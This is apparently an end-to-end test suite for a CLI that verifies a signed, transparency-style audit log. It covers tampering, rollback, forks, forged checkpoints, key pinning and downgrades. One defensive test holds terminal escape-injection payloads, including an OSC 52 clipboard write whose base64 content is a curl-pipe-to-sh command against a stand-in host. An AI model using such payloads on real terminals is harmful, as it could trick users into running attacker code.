/**
 * The audit log as a transparency log, end to end: the real CLI against the sandbox control plane, whose
 * store is rewritten, rolled back, forked, or whose checkpoints and proofs are forged between two runs
 * (issue 17). Each case first has a run remember a checkpoint, then changes the log as an operator who can
 * write the store would, then runs again: exit 5 under --verify with one line saying what happened.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { readdir, readFile, rm, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { ControlPlane } from '../../sandbox/control-plane.js';
import { runCli, startCli } from '../helpers/cli.js';
import type { UserEnv } from '../helpers/env.js';
import { type AliceStack, aliceStack } from '../helpers/stack.js';
import { tmuxServer } from '../helpers/tmux.js';

let stack: AliceStack;
let plane: ControlPlane;
let user: UserEnv;

before(async () => {
  stack = await aliceStack('audit-log');
  ({ plane, user } = stack);
  for (let i = 0; i < 12; i++) plane.appendAudit('acme', { actor: 'alice', tool: 'list_workflows' });
});

after(async () => {
  await stack?.close();
});

const stateDir = () => join(user.configDir, 'state');
const stateFile = () => join(stateDir(), 'sandbox.audit-acme.json');

const tail = (...extra: string[]) =>
  runCli(
    [
      '--profile',
      'sandbox',
      'audit',
      'tail',
      '--tenant',
      'acme',
      '--no-follow',
      '--json',
      '--verify',
      ...extra,
    ],
    user.env(),
  );
const verify = (...extra: string[]) =>
  runCli(['--profile', 'sandbox', 'audit', 'verify', '--tenant', 'acme', ...extra], user.env());

/** A fresh start: no remembered checkpoint, then one run that remembers the current one. */
async function baseline(): Promise<void> {
  plane.setLogFault(undefined);
  plane.setStreamFault(undefined);
  await rm(stateFile(), { force: true });
  const r = await tail();
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /log verified: \d+ events in checkpoint signed by mcp-secure\.sandbox\/audit/);
}

const errors = (stderr: string) => stderr.split('\n').filter((l) => l.startsWith('error: '));

test('a run verifies the log and remembers its checkpoint: 0600 file in a 0700 dir, no secret; the next run checks consistency', async () => {
  await baseline();
  assert.equal((await stat(stateFile())).mode & 0o777, 0o600);
  assert.equal((await stat(stateDir())).mode & 0o777, 0o700);
  const text = await readFile(stateFile(), 'utf8');
  assert.doesNotMatch(text, /eyJ|refresh|access_token/);
  const size = plane.audit.size('acme');
  assert.equal((JSON.parse(text) as { size: number }).size, size);
  plane.appendAudit('acme', { actor: 'alice', tool: 'whoami' });
  const r = await tail();
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, new RegExp(`consistent with the ${size} verified at`));
});

test('history rewritten between two runs (event 3 changed, the chain and the tree recomputed): exit 5 naming event 3', async () => {
  await baseline();
  plane.audit.rewrite('acme', 3, { actor: 'mallory', tool: 'delete_workflow' });
  plane.appendAudit('acme', { actor: 'alice', tool: 'whoami' });
  const r = await tail();
  assert.equal(r.code, 5, r.stderr);
  assert.match(
    r.stderr,
    /✗ AUDIT CHAIN: the log's history was rewritten: its checkpoint of \d+ events is not an extension of the \d+ verified at/,
  );
  assert.match(r.stderr, /✗ AUDIT CHAIN: event 3 differs from the one verified at .*: history was rewritten/);
  assert.equal(errors(r.stderr).length, 1, r.stderr);
  // The remembered checkpoint is not replaced by the rewritten one: the next run says it again.
  const again = await verify();
  assert.equal(again.code, 5, again.stderr);
  assert.match(again.stderr, /is not an extension of/);
});

test('a rollback (the log forgets its last 3 events): exit 5, both sizes named', async () => {
  await baseline();
  const size = plane.audit.size('acme');
  plane.audit.truncate('acme', size - 3);
  const r = await verify();
  assert.equal(r.code, 5, r.stderr);
  assert.match(
    r.stderr,
    new RegExp(`the log was rolled back: it now has ${size - 3} events, but ${size} were verified at`),
  );
  for (let i = 0; i < 3; i++) plane.appendAudit('acme', { actor: 'alice', tool: 'list_workflows' });
});

test('a fork shown to two runs (one size, two signed roots): exit 5, both checkpoints kept as evidence', async () => {
  await baseline();
  const size = plane.audit.size('acme');
  plane.audit.rewrite('acme', size, { outcome: 'denied', reason: 'quietly changed' });
  const r = await tail();
  assert.equal(r.code, 5, r.stderr);
  const m = r.stderr.match(
    /the log forked: two signed checkpoints of size (\d+) with different roots \(both kept in (\S+)\)/,
  );
  assert.ok(m, r.stderr);
  assert.equal(Number(m[1]), size);
  const evidence = JSON.parse(await readFile(m[2]!, 'utf8')) as Record<string, string>;
  assert.notEqual(evidence['remembered_checkpoint'], evidence['received_checkpoint']);
  assert.match(
    evidence['remembered_checkpoint']!,
    new RegExp(`^mcp-secure\\.sandbox/audit/acme\\n${size}\\n`),
  );
  assert.match(evidence['received_checkpoint']!, new RegExp(`^mcp-secure\\.sandbox/audit/acme\\n${size}\\n`));
  assert.equal((await stat(m[2]!)).mode & 0o777, 0o600);
  assert.match(r.stderr, new RegExp(`event ${size} differs from the one verified at`));
});

test('an event re-sent after a cut with changed content: flagged, not shown twice, exit 5', async () => {
  await baseline();
  plane.setStreamFault({ kind: 'resend-changed', seq: 4 });
  const r = await tail();
  plane.setStreamFault(undefined);
  assert.equal(r.code, 5, r.stderr);
  assert.match(r.stderr, /✗ AUDIT CHAIN: event 4 was sent again with different content/);
  const seqs = r.stdout
    .trim()
    .split('\n')
    .map((l) => (JSON.parse(l) as { seq: number }).seq);
  assert.deepEqual(seqs, [...new Set(seqs)], 'no event shown twice');
  assert.equal(seqs.length, plane.audit.size('acme'));
});

test('a checkpoint signed by another key under the same name: exit 5, unknown key', async () => {
  await baseline();
  plane.setLogFault({ kind: 'other-key' });
  const r = await tail();
  plane.setLogFault(undefined);
  assert.equal(r.code, 5, r.stderr);
  assert.match(
    r.stderr,
    /the log's checkpoint is not signed by the pinned key \(signed by: mcp-secure\.sandbox\/audit\)/,
  );
});

test('a checkpoint whose signature does not verify: exit 5', async () => {
  await baseline();
  plane.setLogFault({ kind: 'bad-signature' });
  const r = await verify();
  plane.setLogFault(undefined);
  assert.equal(r.code, 5, r.stderr);
  assert.match(r.stderr, /signature does not verify|not signed by the pinned key/);
});

for (const mode of ['truncate', 'malformed', 'garbage'] as const) {
  test(`a ${mode} consistency proof: exit 5, one line why`, async () => {
    await baseline();
    for (let i = 0; i < 5; i++) plane.appendAudit('acme', { actor: 'alice', tool: 'list_workflows' });
    plane.setLogFault({ kind: 'proof', mode });
    const r = await verify();
    plane.setLogFault(undefined);
    assert.equal(r.code, 5, r.stderr);
    assert.match(r.stderr, /✗ AUDIT LOG: the log's (proof is unusable|history was rewritten)/);
    assert.equal(errors(r.stderr).length, 1, r.stderr);
  });
}

test('first contact: without a pin and without a terminal, refused (exit 5) naming the key; --accept-new-log-key pins it in the profile', async () => {
  const cfg = join(user.configDir, 'config.json');
  const before = JSON.parse(await readFile(cfg, 'utf8')) as {
    profiles: Record<string, Record<string, unknown>>;
  };
  const pinned = before.profiles['sandbox']!['audit_log_key'];
  await runCli(['--profile', 'sandbox', 'config', 'unset', 'audit_log_key'], user.env());
  await rm(stateFile(), { force: true });
  const refused = await verify();
  assert.equal(refused.code, 5, refused.stderr);
  assert.ok(refused.stderr.includes(plane.logKey.vkey), refused.stderr);
  assert.match(refused.stderr, /--accept-new-log-key/);
  const accepted = await verify('--accept-new-log-key');
  assert.equal(accepted.code, 0, accepted.stderr);
  const afterCfg = JSON.parse(await readFile(cfg, 'utf8')) as {
    profiles: Record<string, Record<string, unknown>>;
  };
  assert.equal(afterCfg.profiles['sandbox']!['audit_log_key'], pinned);
  assert.equal(afterCfg.profiles['sandbox']!['audit_log_key'], plane.logKey.vkey);
});

test('audit verify from the remembered checkpoint to the current one, without streaming', async () => {
  await baseline();
  const size = plane.audit.size('acme');
  for (let i = 0; i < 9; i++) plane.appendAudit('acme', { actor: 'alice', tool: 'list_workflows' });
  const r = await verify();
  assert.equal(r.code, 0, r.stderr);
  assert.match(
    r.stderr,
    new RegExp(
      `checkpoint of ${size + 9} events signed by mcp-secure\\.sandbox/audit, consistent with the ${size} verified at`,
    ),
  );
  const files = await readdir(stateDir());
  assert.ok(files.includes('sandbox.audit-acme.json'));
});

// biome-ignore lint/suspicious/noControlCharactersInRegex: what must never reach the terminal
const ESC_OR_C1 = /[\u001b\u0007\u007f-\u009f]/;

test('a hostile feed (clear-screen, OSC 52 clipboard write, window title in ts, tenant, SSE id and every field): no ESC or C1 reaches the terminal', async () => {
  await baseline();
  const evil = {
    clear: '\u001b[2J\u001b[H',
    clip: '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u0007',
    title: '\u001b]0;pwned\u0007',
    csi: '\u009b31m',
  };
  const all = Object.values(evil).join('');
  const event = {
    seq: 1,
    ts: `2026-12-01T00:00:00.000Z${all}`,
    tenant: `acme${evil.clip}`,
    actor: `mallory${evil.title}`,
    tool: `x${evil.clear}`,
    downstream: `d${evil.csi}`,
    outcome: 'denied',
    reason: all,
    prev: '0'.repeat(64),
    hash: 'f'.repeat(64),
  };
  const frames = [
    `id: 1${evil.title}\nevent: audit\ndata: {not json\n\n`,
    `id: 2\nevent: audit\ndata: ${JSON.stringify(event)}\n\n`,
    `id: 3\nevent: audit\ndata: ${JSON.stringify({ ...event, seq: 3 }).replace(',', ',\ndata: ')}\n\n`,
  ].join('');
  for (const mode of ['--pretty', '--json']) {
    plane.setStreamFault({ kind: 'raw', frames });
    const r = await runCli(
      ['--profile', 'sandbox', 'audit', 'tail', '--tenant', 'acme', '--no-follow', mode, '--quiet'],
      user.env(),
    );
    plane.setStreamFault(undefined);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, ESC_OR_C1, `${mode} stdout: ${JSON.stringify(r.stdout)}`);
    assert.doesNotMatch(r.stderr, ESC_OR_C1, `${mode} stderr: ${JSON.stringify(r.stderr)}`);
    assert.match(r.stderr, /event 1 \]0;pwned is malformed/);
    assert.match(r.stderr, /names tenant acme ?\]52;c;/);
    if (mode === '--json') {
      const lines = r.stdout.trim().split('\n');
      assert.equal(lines.length, 2, 'the multi-line data event stays one NDJSON line');
      for (const l of lines) assert.equal((JSON.parse(l) as { actor: string }).actor, event.actor);
    }
  }
});

test('a feed that ignores Last-Event-ID and re-sends a 50 MB event every time: gives up after a bounded number of resumes, exit 1, one line why; memory stays bounded', async () => {
  await baseline();
  plane.setStreamFault({ kind: 'oversize', seq: 3, bytes: 50 * 1024 * 1024, replay: true });
  const started = Date.now();
  const run = startCli(
    ['--profile', 'sandbox', 'audit', 'tail', '--tenant', 'acme', '--no-follow', '--json'],
    user.env(),
    120_000,
  );
  run.child.stdin.end();
  let peakKib = 0;
  const sampler = setInterval(async () => {
    const status = await readFile(`/proc/${run.child.pid}/status`, 'utf8').catch(() => '');
    const m = status.match(/VmHWM:\s+(\d+) kB/);
    if (m) peakKib = Math.max(peakKib, Number(m[1]));
  }, 50);
  const r = await run.done;
  clearInterval(sampler);
  plane.setStreamFault(undefined);
  assert.equal(r.code, 1, r.stderr);
  assert.ok(Date.now() - started < 110_000, 'it ends');
  const errs = errors(r.stderr);
  assert.equal(errs.length, 1, r.stderr);
  assert.match(errs[0]!, /error: the audit feed of acme made no progress in 8 reconnections in a row/);
  const seqs = r.stdout
    .trim()
    .split('\n')
    .map((l) => (JSON.parse(l) as { seq: number }).seq);
  assert.deepEqual(seqs, [1, 2], 'the events before it once, never repeated');
  assert.ok(peakKib < 200 * 1024, `peak RSS ${Math.round(peakKib / 1024)} MiB`);
});

test('first contact on a terminal: the key is shown and pinned only on a yes; a no leaves it unpinned and exits 5', async () => {
  const cfg = join(user.configDir, 'config.json');
  const pinnedKey = () =>
    (JSON.parse(readFileSync(cfg, 'utf8')) as { profiles: Record<string, Record<string, unknown>> }).profiles[
      'sandbox'
    ]!['audit_log_key'];
  for (const answer of ['n', 'y']) {
    await runCli(['--profile', 'sandbox', 'config', 'unset', 'audit_log_key'], user.env());
    await rm(stateFile(), { force: true });
    const tmux = tmuxServer(`mcp-secure-audit-log-${answer}`);
    try {
      await tmux.start('pin', user.env(), [
        '--profile',
        'sandbox',
        'audit',
        'verify',
        '--tenant',
        'acme',
        ';',
        'echo',
        'EXIT=$?',
      ]);
      const asked = await tmux.waitFor('pin', /Pin it and trust checkpoints it signs\? \[y\/N\]/);
      assert.ok(asked.includes(plane.logKey.vkey), asked);
      await tmux.run('send-keys', '-t', 'pin', answer, 'Enter');
      const done = await tmux.waitFor('pin', /EXIT=\d+/);
      if (answer === 'y') {
        assert.match(done, /EXIT=0/, done);
        assert.match(done, /audit log key pinned in /);
        assert.equal(pinnedKey(), plane.logKey.vkey);
      } else {
        assert.match(done, /EXIT=5/, done);
        assert.equal(pinnedKey(), undefined);
      }
    } finally {
      await tmux.kill();
    }
  }
});

test('mid-log (--since): the first event shown is proved by an inclusion proof, the rest by the tree from there; a changed event among them is caught', async () => {
  const old = new Date(Date.now() - 3 * 3_600_000).toISOString();
  for (let i = 0; i < 5; i++) plane.appendAudit('globex', { actor: 'bob', tool: 'list_workflows', ts: old });
  for (let i = 0; i < 4; i++) plane.appendAudit('globex', { actor: 'alice', tool: 'list_workflows' });
  const since = (...extra: string[]) =>
    runCli(
      [
        '--profile',
        'sandbox',
        'audit',
        'tail',
        '--tenant',
        'globex',
        '--since',
        '1h',
        '--no-follow',
        '--json',
        '--verify',
        ...extra,
      ],
      user.env(),
    );
  const r = await since();
  assert.equal(r.code, 0, r.stderr);
  const seqs = r.stdout
    .trim()
    .split('\n')
    .map((l) => (JSON.parse(l) as { seq: number }).seq);
  assert.deepEqual(seqs, [6, 7, 8, 9]);
  assert.match(r.stderr, /log verified: 9 events in checkpoint signed by mcp-secure\.sandbox\/audit/);
  plane.setStreamFault({ kind: 'tamper', seq: 8 });
  const tampered = await since();
  plane.setStreamFault(undefined);
  assert.equal(tampered.code, 5, tampered.stderr);
  assert.match(tampered.stderr, /the events received are not the log the checkpoint of 9 events signs/);
});

test('a control plane with only the hash chain: the tail still works and says "chain only"; with the key pinned, the missing log is a downgrade (exit 5)', async () => {
  await baseline();
  plane.setLogFault({ kind: 'absent' });
  const downgraded = await tail();
  assert.equal(downgraded.code, 5, downgraded.stderr);
  assert.match(
    downgraded.stderr,
    /no longer publishes its signed log, but this profile pins its key: a downgrade/,
  );
  await runCli(['--profile', 'sandbox', 'config', 'unset', 'audit_log_key'], user.env());
  const chainOnly = await tail();
  plane.setLogFault(undefined);
  await runCli(['--profile', 'sandbox', 'config', 'set', 'audit_log_key', plane.logKey.vkey], user.env());
  assert.equal(chainOnly.code, 0, chainOnly.stderr);
  assert.match(
    chainOnly.stderr,
    /warning: chain only: a rewrite between runs cannot be detected \(the control plane publishes no signed log\)/,
  );
  assert.match(
    chainOnly.stderr,
    /chain verified \(#1–#\d+\); chain only: a rewrite between runs cannot be detected\./,
  );
  assert.equal(chainOnly.stdout.trim().split('\n').length, plane.audit.size('acme'));
});
